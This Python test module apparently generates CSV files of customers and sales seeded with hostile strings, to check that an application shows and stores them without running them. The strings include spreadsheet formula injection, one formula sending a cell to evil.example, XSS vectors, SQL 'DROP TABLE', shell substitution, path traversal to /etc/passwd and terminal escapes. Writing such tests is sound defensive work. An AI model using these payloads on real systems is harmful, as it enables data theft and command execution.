"""Files whose texts would like to be run: in cells, where they are harmless, and in titles, which are shown.

A payload is a text like any other. It is read, stored and shown as it stands; nothing of it is ever followed.
"""

from tests.bad_files.entry import CANARY, SALES, accepted, in_category, sales, table, text_of

PAYLOADS = {
    "formula": "=1+1",
    "formula_command": "=cmd|'/C calc'!A0",
    "formula_link": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "formula_plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_full_width": "＝1+1",
    "html_image": "<img src=x onerror=window.__xss=1>",
    "html_script": "<script>window.__xss=1</script>",
    "html_svg": "<svg/onload=window.__xss=1>",
    "html_attribute": '" onmouseover="window.__xss=1',
    "html_comment": "--><script>window.__xss=1</script>",
    "html_entity": "&lt;script&gt;&#x61;",
    "javascript": "javascript:window.__xss=1",
    "data_url": "data:text/html,<script>window.__xss=1</script>",
    "markdown_link": "[click](javascript:window.__xss=1)",
    "markdown_image": "![x](http://evil.example/pixel.png)",
    "mathjax": r"$\href{javascript:window.__xss=1}{x}$",
    "emoji_and_colour": ":red[x] :material/delete: **x**",
    "sql": "x'; DROP TABLE customers; --",
    "sql_quotes": 'a"b""c',
    "template_jinja": "{{ 7*7 }}{% for x in y %}",
    "template_python": "{0.__class__.__mro__} %s %(x)s",
    "template_shell": "$(touch /tmp/owned) `id` ${HOME}",
    "path": "../../../../etc/passwd",
    "path_windows": r"..\..\windows\system32\CON",
    "terminal": "\x1b[2J\x1b]0;owned\x07red\x1b[31m",
    "forged_log": "x\r\nINFO root: forged entry",
    "prototype": "__proto__",
    "plotly": "%{x}<extra></extra>",
    "very_long": "title " * 2_000,
    "only_signs": "\u202e\u200b\u2066",
}

KINDS = tuple(PAYLOADS.values())[:-2]


def with_title(payload: str) -> str:
    """Customers, of whom a column with that title says something."""
    cells = {
        "customer_id": lambda n: f"{CANARY}{n:03d}",
        payload: lambda n: n % 7,
        "city": lambda n: ("Bern", "Basel", "Chur")[n % 3],
    }
    return table(cells)


def payload(n: int) -> str:
    return f"{KINDS[n % len(KINDS)]}{CANARY}"


def as_ids() -> str:
    """A payload for every customer; white space around it would be taken off."""
    return sales(customer_id=lambda n: payload(n % 15).strip())


def everywhere() -> str:
    """Payloads in all texts of a file of customers."""
    cells = dict.fromkeys(("first name", "city", "note"), payload)
    return table({"customer_id": SALES["customer_id"]} | {"customer_id": lambda n: f"{CANARY}{n}"} | cells)


def campaigns() -> str:
    rows = [["campaign_id", "name", "starts_at"]]
    rows += [[f"C{n}", text, f"2024-01-{1 + n % 28:02d}"] for n, text in enumerate(KINDS)]
    return text_of(rows)


HOSTILE_VALUES = in_category(
    "hostile values",
    [
        accepted("payloads_as_ids.csv", as_ids),
        accepted("payloads_as_categories.csv", lambda: sales(category=payload)),
        accepted("payloads_of_customers.csv", everywhere, table="customers"),
        accepted("payloads_of_campaigns.csv", campaigns, table="campaigns", rows=len(KINDS)),
        accepted("payload_in_file_name=1+1;<b>.csv", sales),
        accepted("payloads_in_unused_columns.csv", lambda: sales(note=payload, memo=payload)),
    ],
)

HOSTILE_HEADERS = in_category(
    "hostile headers",
    [
        *(
            accepted(f"customers_{name}.csv", lambda text=text: with_title(text), table="customers")
            for name, text in PAYLOADS.items()
            if name != "only_signs"
        ),
        accepted(
            "sales_all.csv",
            lambda: sales(**{text: lambda n: n % 7 for text in KINDS if text[0] != "\t"}),
        ),
    ],
)
